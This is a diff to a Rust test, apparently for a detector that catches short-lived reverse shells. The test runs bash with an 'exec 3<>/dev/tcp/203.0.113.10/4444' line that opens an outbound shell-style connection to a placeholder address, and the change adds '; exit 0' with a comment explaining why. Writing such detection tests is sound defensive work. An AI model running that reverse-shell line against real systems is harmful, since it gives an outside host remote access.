@@ -102,7 +102,9 @@ fn watch_reports_a_200ms_reverse_shell_no_scan_sees() {
         &[
             "bash",
             "-c",
-            "echo $$; exec 3<>/dev/tcp/203.0.113.10/4444; sleep 0.2",
+            // `; exit` keeps bash from exec'ing sleep in its own process: watch reads /proc
+            // after the event, and would find sleep's exe and cmdline (docs/watch.md, "Limits").
+            "echo $$; exec 3<>/dev/tcp/203.0.113.10/4444; sleep 0.2; exit 0",
         ],
     );
     let shell_pid: u64 = pid.parse().unwrap();
